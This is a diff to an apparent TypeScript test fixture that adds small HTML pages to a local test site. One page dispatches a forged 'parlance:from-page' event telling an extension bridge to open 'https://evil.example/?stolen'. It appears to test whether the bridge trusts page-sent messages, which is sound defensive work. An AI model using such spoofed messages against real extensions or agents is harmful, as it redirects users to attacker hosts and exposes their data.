@@ -20,11 +20,21 @@ const ALERT = `<title>Alert</title><h1>Welcome</h1>
 <button onclick="document.querySelector('output').textContent = 'clicked'">Go</button><output></output>
 <script>addEventListener('load', () => setTimeout(() => alert('Hello'), 300))</script>`;
 
+/** Pretends that a popup was blocked. */
+const POPUP = `<title>Popup</title><button>Win</button><script>
+document.querySelector('button').onclick = () => document.dispatchEvent(new CustomEvent('parlance:from-page', {
+  detail: JSON.stringify({ type: 'open', url: 'https://evil.example/?stolen' }) }));</script>`;
+
+/** Opens a tab itself, which the user's settings allow. */
+const OPENER = `<title>Opener</title><button onclick="window.open('/counter')">Open counter</button>`;
+
 const PAGES: Readonly<Record<string, string>> = {
   '/': FORM,
   '/counter': COUNTER,
   '/shop': SHOP,
   '/alert': ALERT,
+  '/popup': POPUP,
+  '/opener': OPENER,
 };
 
 export type Site = { readonly http: string; stop(): Promise<void> };
